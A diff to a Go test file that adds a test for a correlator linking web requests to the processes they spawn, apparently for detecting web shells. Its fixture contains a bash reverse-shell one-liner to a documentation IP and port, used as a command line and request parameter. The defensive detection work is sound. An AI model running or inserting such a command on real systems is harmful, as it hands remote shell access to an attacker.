@@ -323,3 +323,29 @@ func TestOwnServerFirst(t *testing.T) {
 		}
 	}
 }
+
+// A reverse shell first linked by time alone, to a page served at that
+// moment, is taken over by its real request when that is logged minutes
+// later with the shell's command as its parameter, as a strong request
+// takes a weak link over within the reorder window.
+func TestLongShellTakesOverWeakLink(t *testing.T) {
+	const cmd = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
+	c := New(Options{})
+	shell := Process{Ref: 10, Time: t0, ID: "a", Shell: "a", CommandLine: "sh -c " + cmd, WebNames: []string{"php-fpm8.2"}}
+	if _, ok := c.AddProcess("h", shell); ok {
+		t.Fatal("linked with no request")
+	}
+	page := Request{Ref: 1, Time: t0.Add(200 * time.Millisecond), Path: "/index.php", Script: true, Server: "nginx"}
+	if links := c.AddRequest("h", page); len(links) != 1 || links[0].Score >= strong {
+		t.Fatalf("the page served with the shell: links %+v, want one weak link", links)
+	}
+	c.AddProcess("h", Process{Ref: 99, Time: t0.Add(time.Minute), ID: "z", Shell: "z", CommandLine: "sh -c uptime"})
+	real := Request{Ref: 2, Time: t0.Add(time.Minute), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "nginx"}
+	links := c.AddRequest("h", real)
+	if len(links) != 1 || links[0].Process != shell.Ref || !slices.Contains(links[0].Evidence, "long_running") {
+		t.Fatalf("the shell's own request: links %+v", links)
+	}
+	if l, ok := c.AddProcess("h", Process{Ref: 11, Time: t0.Add(61 * time.Second), ID: "b", Shell: "a", CommandLine: "id"}); !ok || l.Request != real.Ref {
+		t.Errorf("the shell's child follows request %d (%v), want %d", l.Request, ok, real.Ref)
+	}
+}
